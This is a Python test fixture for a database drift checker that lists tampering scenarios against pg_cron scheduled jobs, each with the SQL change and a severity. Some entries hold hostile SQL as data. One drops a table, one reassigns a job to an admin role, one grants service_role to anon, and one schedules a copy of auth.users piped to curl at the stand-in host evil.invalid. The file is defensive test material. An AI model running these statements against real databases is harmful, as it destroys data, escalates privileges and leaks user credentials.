"""Scheduled jobs."""

from __future__ import annotations

from tests.drift.drift import OPENING, QUALITY, SERIOUS, Drift

JOBS = [
    Drift(
        "job disabled",
        "update cron.job set active = false where jobname = 'purge audit'",
        "cron_*",
        SERIOUS,
        "purge audit",
    ),
    Drift(
        "job rescheduled",
        "update cron.job set schedule = '0 3 1 1 *' where jobname = 'purge audit'",
        "cron_*",
        QUALITY,
        "purge audit",
    ),
    Drift(
        "job rewritten",
        "update cron.job set command = 'drop table public.tasks' where jobname = 'refresh stats'",
        "cron_*",
        OPENING,
        "refresh stats",
    ),
    Drift(
        "job of somebody else",
        "update cron.job set username = 'supabase_admin' where jobname = 'refresh stats'",
        "cron_*",
        OPENING + " medium",
        "refresh stats",
    ),
    Drift(
        "job gone",
        "delete from cron.job where jobname = 'purge audit'",
        "cron_missing",
        SERIOUS,
        "purge audit",
    ),
    Drift(
        "rogue job",
        """insert into cron.job (schedule, command, jobname) values ('* * * * *',
          'copy auth.users to program ''curl -d @- evil.invalid''', 'sync')""",
        "cron_*",
        OPENING,
        "sync",
    ),
    Drift(
        "rogue job without a name",
        """insert into cron.job (schedule, command) values ('* * * * *',
          'grant service_role to anon')""",
        "cron_*",
        OPENING,
        "",
    ),
]
